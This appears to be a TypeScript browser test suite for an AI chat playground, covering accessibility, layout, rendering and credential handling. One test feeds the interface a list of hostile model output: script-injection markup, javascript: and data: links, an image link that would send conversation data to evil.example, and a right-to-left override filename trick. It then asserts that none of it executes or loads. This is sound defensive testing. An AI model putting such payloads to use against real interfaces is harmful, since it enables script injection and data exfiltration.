import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createRequire } from 'node:module';
import { createInterface } from 'node:readline';
import { startLocalBedrock } from 'bedrock-anywhere/local/node';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { launchChromium } from '../../scripts/chromium.mjs';
import {
  asGuest,
  DESKTOP,
  openPlayground,
  PHONE,
  type PlaygroundPage,
  type Screen,
} from './playground-page.js';

const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
const NARROW: Screen = { width: 320, height: 640 };

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser?.close());

interface Axe {
  run(): Promise<{ violations: { id: string; impact: string | null; nodes: { target: string[] }[] }[] }>;
}

/** What axe finds that is serious. The page's own policy lets no script in but its own, so that axe comes by the debugger. */
async function seriousFindings({ page }: PlaygroundPage): Promise<string[]> {
  const { readFileSync } = await import('node:fs');
  await page.evaluate(readFileSync(AXE, 'utf8'));
  const { violations } = await page.evaluate(() => (globalThis as unknown as { axe: Axe }).axe.run());
  return violations
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .map(({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(' ')).join(', ')}`);
}

/** Elements that reach over the edge of the screen, except inside of something that scrolls. */
function widerThanScreen({ page }: PlaygroundPage): Promise<string[]> {
  return page.evaluate(() => {
    const exempt = '.sr-only, .skip, [hidden], pre, .table, details:not([open]) > :not(summary)';
    return [...document.querySelectorAll('body *')]
      .filter((element) => {
        const { left, right, width } = element.getBoundingClientRect();
        return width > 0 && (right > innerWidth + 1 || left < -1) && element.closest(exempt) === null;
      })
      .map((element) => `${element.tagName}.${element.className}`);
  });
}

describe.each<[name: string, screen: Screen]>([
  ['1280-light', { ...DESKTOP, scheme: 'light' }],
  ['1280-dark', { ...DESKTOP, scheme: 'dark' }],
  ['390-light', { ...PHONE, scheme: 'light' }],
  ['390-dark', { ...PHONE, scheme: 'dark' }],
  ['320-light', { ...NARROW, scheme: 'light' }],
  ['320-dark', { ...NARROW, scheme: 'dark' }],
])('the page at %s', (name, screen) => {
  async function check(shown: PlaygroundPage, state: string): Promise<void> {
    await shown.shoot(`${name}-${state}`);
    expect(await seriousFindings(shown), state).toEqual([]);
    expect(await widerThanScreen(shown), state).toEqual([]);
  }

  it('is for everyone, in each state', async () => {
    const shown = await openPlayground(browser, { screen });
    const { page } = shown;
    // The list of conversations is behind a button.
    const isNarrow = screen.width < 900;
    await shown.isReady();
    await check(shown, '1-empty');
    await shown.button(/Take the tour/).click();
    await shown.isDone();
    await shown.answer().locator('.reasoning summary').click();
    await shown.answer().locator('.numbers summary').first().click();
    await check(shown, '2-answer');
    if (isNarrow) await shown.button('Conversations').click();
    await shown.button('New conversation').last().click();
    await shown.button(/Call a tool/).click();
    await shown.isDone(1);
    await shown.answer().locator('.tool-call summary').click();
    await page.locator('.tool-menu summary').click();
    await check(shown, '3-tool');
    await page.locator('.tool-menu summary').click();
    await shown.button('Settings').click();
    await page.getByLabel('Identifier').fill('localguardrail');
    await check(shown, '4-settings');
    await page.getByLabel('What goes wrong').selectOption({ label: 'The answer breaks off' });
    await page.keyboard.press('Escape');
    await shown.ask('Write a poem about why the sky is blue.');
    await page.locator('.failure').waitFor();
    await check(shown, '5-failure');
    await page.locator('.model-button').click();
    await page.locator('.model').first().waitFor();
    await check(shown, '6-models');
    await page.keyboard.press('Escape');
    await shown.button('Show code').click();
    await page.locator('.code-dialog pre').waitFor();
    await check(shown, '7-code');
    await page.keyboard.press('Escape');
    if (isNarrow) await shown.button('Conversations').click();
    if (isNarrow) await check(shown, '8-menu');
    await page.locator('.connection').last().click();
    await page.getByLabel('Session keys').check();
    await check(shown, '9-connection');
  });
});

const HOSTILE = [
  '<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=2</script>',
  '[click](javascript:globalThis.pwned=3) [data](data:text/html,<script>pwned=4</script>)',
  '![see](https://evil.example/?secret=conversation) <https://evil.example/auto>',
  '`a\u202Etxt.exe` and \u202Ereversed',
  `${'#'.repeat(7)} ${'deep '.repeat(2)}`,
  `${'> '.repeat(300)}quoted`,
  `${'- '.repeat(300)}item`,
  `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n|${'<b>|'.repeat(400)}`,
  'x'.repeat(30_000),
  '```html\n<script>globalThis.pwned=5</script>\n```',
].join('\n\n');

it('shows whatever a model writes, and runs and loads none of it', async () => {
  const local = await startLocalBedrock({ script: [{ user: 'hostile', text: HOSTILE, reasoning: HOSTILE }] });
  onTestFinished(() => local.close());
  const shown = await openPlayground(browser, { screen: NARROW, connection: asGuest(local) });
  await shown.ask('hostile');
  await shown.isDone();
  await shown.shoot('hostile');
  const seen = await shown.page.evaluate(() => ({
    pwned: (globalThis as { pwned?: number }).pwned,
    elements: document.querySelectorAll('.answer script, .answer img, .answer iframe, .answer b').length,
    links: [...document.querySelectorAll<HTMLAnchorElement>('.answer a')].map(({ href, rel, target }) => [
      href,
      rel,
      target,
    ]),
    html: document.querySelector('.answer')?.textContent ?? '',
  }));
  expect(seen.pwned).toBeUndefined();
  expect(seen.elements).toBe(0);
  const away = ['noopener noreferrer nofollow', '_blank'];
  expect(seen.links.slice(0, 2)).toEqual([
    ['https://evil.example/?secret=conversation', ...away],
    ['https://evil.example/auto', ...away],
  ]);
  expect(seen.html).toContain('a‹U+202E›txt.exe');
  expect(await widerThanScreen(shown)).toEqual([]);
  expect(shown.foreign.filter((url) => !url.startsWith(local.url))).toEqual([]);
});

it('draws only the end of a long answer again', async () => {
  const paragraphs = Array.from(
    { length: 250 },
    (_, i) => `Paragraph ${i} has **some** words, \`code\` and a [link](https://a.example/${i}).`,
  );
  const local = await startLocalBedrock({ script: [{ user: 'long', text: paragraphs.join('\n\n') }] });
  onTestFinished(() => local.close());
  const shown = await openPlayground(browser, { connection: asGuest(local) });
  await shown.isReady();
  // Counts, for each drawing, the paragraphs that were there before and have changed.
  await shown.page.evaluate(() => {
    const counted = globalThis as unknown as { most: number; frames: number };
    counted.most = 0;
    counted.frames = 0;
    new MutationObserver((changes) => {
      const added = new Set(changes.flatMap(({ addedNodes }) => [...addedNodes]));
      const changed = changes
        .map(({ target }) =>
          (target instanceof Element ? target : target.parentElement)?.closest('.prose > *'),
        )
        .filter((section) => section != null && !added.has(section));
      counted.frames += 1;
      counted.most = Math.max(counted.most, new Set(changed).size);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  await shown.ask('long');
  await shown.isDone();
  const { most, frames } = await shown.page.evaluate(() => {
    const counted = globalThis as unknown as { most: number; frames: number };
    return { most: counted.most, frames: counted.frames };
  });
  expect(await shown.answer().locator('.prose > p').count()).toBe(250);
  expect(frames).toBeGreaterThan(1);
  expect(most).toBeLessThanOrEqual(2);
});

describe('the command', () => {
  it('lets a page with its token use the credentials, and no page after it', async () => {
    const local = await startLocalBedrock({ script: [{ user: 'ping', text: 'pong' }] });
    onTestFinished(() => local.close());
    const program = spawn(
      process.execPath,
      ['dist/node/cli.js', 'playground', '--aws', '--port', '0', '--json'],
      {
        env: {
          ...process.env,
          AWS_ENDPOINT_URL: local.url,
          AWS_REGION: local.region,
          AWS_ACCESS_KEY_ID: local.credentials.accessKeyId,
          AWS_SECRET_ACCESS_KEY: local.credentials.secretAccessKey,
        },
        stdio: ['ignore', 'pipe', 'inherit'],
      },
    );
    onTestFinished(async () => {
      program.kill();
      await once(program, 'exit');
    });
    const lines = createInterface(program.stdout)[Symbol.asyncIterator]();
    const next = async (): Promise<string> => (JSON.parse((await lines.next()).value) as { url: string }).url;
    const address = await next();
    const shown = await openPlayground(browser, { url: address });
    await shown.ask('ping');
    await shown.isDone();
    expect(await shown.answer().locator('.prose').textContent()).toBe('pong');
    expect(shown.page.url()).not.toContain('token');
    expect(shown.foreign).toEqual([]);
    await shown.page.reload();
    await shown.ask('ping');
    await shown.isDone(1);
    const kept = await shown.page.evaluate(() =>
      JSON.stringify([{ ...sessionStorage }, { ...localStorage }]),
    );
    expect(kept).not.toContain(local.credentials.secretAccessKey);
    const again = await openPlayground(browser, { url: address });
    await again.isReady();
    expect(await again.page.locator('.connection').first().textContent()).toContain('Local Bedrock');
    const fresh = await openPlayground(browser, { url: await next() });
    await fresh.isReady();
    expect(await fresh.page.locator('.connection').first().textContent()).toContain(
      'Credentials of this machine',
    );
  });
});
